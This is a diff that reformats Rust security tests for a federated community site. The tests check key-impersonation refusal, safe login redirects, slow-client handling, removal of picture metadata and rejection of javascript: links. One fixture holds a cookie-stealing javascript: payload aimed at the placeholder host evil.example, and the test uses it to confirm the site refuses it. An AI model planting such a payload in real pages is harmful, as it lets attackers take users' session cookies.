@@ -112,13 +112,8 @@ async fn a_signature_made_for_another_server_is_refused(backend: Backend) -> Res
 async fn a_key_named_only_in_an_update_is_not_taken(backend: Backend) -> Result<()> {
     let s = impersonation(backend).await?;
     let attackers_keys = keys::generate();
-    let mut profile: serde_json::Value = reqwest::Client::new()
-        .get(&s.coordinator.ap_id)
-        .header("accept", "application/activity+json")
-        .send()
-        .await?
-        .json()
-        .await?;
+    let mut profile: serde_json::Value =
+        reqwest::Client::new().get(&s.coordinator.ap_id).header("accept", "application/activity+json").send().await?.json().await?;
     profile["publicKey"]["publicKeyPem"] = json!(attackers_keys.rsa_public_pem);
     profile["name"] = json!("Fatima (nieuw nummer)");
     let update = json!({"@context": "https://www.w3.org/ns/activitystreams", "id": format!("{}#updates/1", s.coordinator.ap_id),
@@ -205,13 +200,16 @@ async fn going_back_never_leaves_the_site(backend: Backend) -> Result<()> {
         let login = visitor.get(&format!("/inloggen?terug={terug}")).await?;
         let csrf = login.csrf()?;
         let back = login.body.split("name=\"terug\" value=\"").nth(1).and_then(|r| r.split('"').next()).unwrap_or("/").to_string();
-        let answer = visitor.post("/inloggen", &[("username", "sanne"), ("password", "geheim-wachtwoord"), ("terug", &back), ("csrf", &csrf)]).await?;
+        let answer = visitor
+            .post("/inloggen", &[("username", "sanne"), ("password", "geheim-wachtwoord"), ("terug", &back), ("csrf", &csrf)])
+            .await?;
         assert_local(answer.location.as_deref(), terug)?;
         // Also when the form itself is sent with the hostile value.
         let mut again = PageVisitor::new(&node.base_url())?;
         let csrf = again.get("/inloggen").await?.csrf()?;
         let raw = url_decode(terug);
-        let answer = again.post("/inloggen", &[("username", "sanne"), ("password", "geheim-wachtwoord"), ("terug", &raw), ("csrf", &csrf)]).await?;
+        let answer =
+            again.post("/inloggen", &[("username", "sanne"), ("password", "geheim-wachtwoord"), ("terug", &raw), ("csrf", &csrf)]).await?;
         assert_local(answer.location.as_deref(), terug)?;
     }
     Ok(())
@@ -230,7 +228,10 @@ fn url_decode(text: &str) -> String {
     let mut out = Vec::new();
     let mut i = 0;
     while i < bytes.len() {
-        if bytes[i] == b'%' && i + 2 < bytes.len() && let Ok(b) = u8::from_str_radix(&text[i + 1..i + 3], 16) {
+        if bytes[i] == b'%'
+            && i + 2 < bytes.len()
+            && let Ok(b) = u8::from_str_radix(&text[i + 1..i + 3], 16)
+        {
             out.push(b);
             i += 3;
         } else {
@@ -380,7 +381,8 @@ async fn slow_clients_are_cut_off_and_the_node_keeps_answering(backend: Backend)
     body_stalled.write_all(format!("{headers}{{\"client_name\":").as_bytes()).await?;
 
     let started = std::time::Instant::now();
-    let health = reqwest::Client::new().get(format!("{}/health", node.base_url())).timeout(std::time::Duration::from_secs(10)).send().await?;
+    let health =
+        reqwest::Client::new().get(format!("{}/health", node.base_url())).timeout(std::time::Duration::from_secs(10)).send().await?;
     assert_eq!(health.status(), 200);
     assert!(started.elapsed() < std::time::Duration::from_secs(6), "/health took {:?} behind 150 stalled clients", started.elapsed());
 
@@ -467,7 +469,12 @@ async fn no_picture_keeps_its_hidden_metadata(backend: Backend) -> Result<()> {
     node.add_member("fatima", None).await?;
     let token = app_token(&node, "fatima").await?;
     const SECRET: &[u8] = b"GPS-51.9225-4.4792-GAFFELSTRAAT-iPhone15";
-    for (name, file) in [("foto.jpg", jpeg_with(SECRET)?), ("foto.png", png_with(SECRET)?), ("foto.webp", webp_with(SECRET)?), ("foto.gif", gif_with(SECRET)?)] {
+    for (name, file) in [
+        ("foto.jpg", jpeg_with(SECRET)?),
+        ("foto.png", png_with(SECRET)?),
+        ("foto.webp", webp_with(SECRET)?),
+        ("foto.gif", gif_with(SECRET)?),
+    ] {
         assert!(file.windows(SECRET.len()).any(|w| w == SECRET), "{name}: the test file carries the secret");
         let form = reqwest::multipart::Form::new()
             .part("file", reqwest::multipart::Part::bytes(file).file_name(name))
@@ -488,7 +495,8 @@ async fn no_picture_keeps_its_hidden_metadata(backend: Backend) -> Result<()> {
     // 49 megapixels in a few kilobytes: refused before it is decoded.
     let huge = encoded(image::DynamicImage::ImageLuma8(image::GrayImage::new(7000, 7000)), image::ImageFormat::Png)?;
     let form = reqwest::multipart::Form::new().part("file", reqwest::multipart::Part::bytes(huge).file_name("groot.png"));
-    let refused = reqwest::Client::new().post(format!("{}/api/v2/media", node.base_url())).bearer_auth(&token).multipart(form).send().await?;
+    let refused =
+        reqwest::Client::new().post(format!("{}/api/v2/media", node.base_url())).bearer_auth(&token).multipart(form).send().await?;
     assert_eq!(refused.status(), 422, "too many pixels");
     Ok(())
 }
@@ -640,8 +648,15 @@ async fn links_are_web_addresses_only(backend: Backend) -> Result<()> {
     let mut visitor = PageVisitor::new(&node.base_url())?;
     visitor.log_in("fatima", "geheim-wachtwoord").await?;
     let next_week = (chrono::Utc::now() + chrono::Duration::days(7)).format("%Y-%m-%d").to_string();
-    let fields = [("author", "fatima"), ("title", "Soep online"), ("date", next_week.as_str()), ("start", "17:30"),
-                  ("online_url", "javascript:fetch('//evil.example/?'+document.cookie)"), ("join_mode", "free"), ("visibility", "public")];
+    let fields = [
+        ("author", "fatima"),
+        ("title", "Soep online"),
+        ("date", next_week.as_str()),
+        ("start", "17:30"),
+        ("online_url", "javascript:fetch('//evil.example/?'+document.cookie)"),
+        ("join_mode", "free"),
+        ("visibility", "public"),
+    ];
     let refused = visitor.submit("/nieuw/activiteit", "/nieuw/activiteit", &fields).await?;
     assert_eq!(refused.status, 422, "a javascript: link is refused");
     assert!(refused.body.contains("id=\"online_url-error\""), "and explained beside the field");
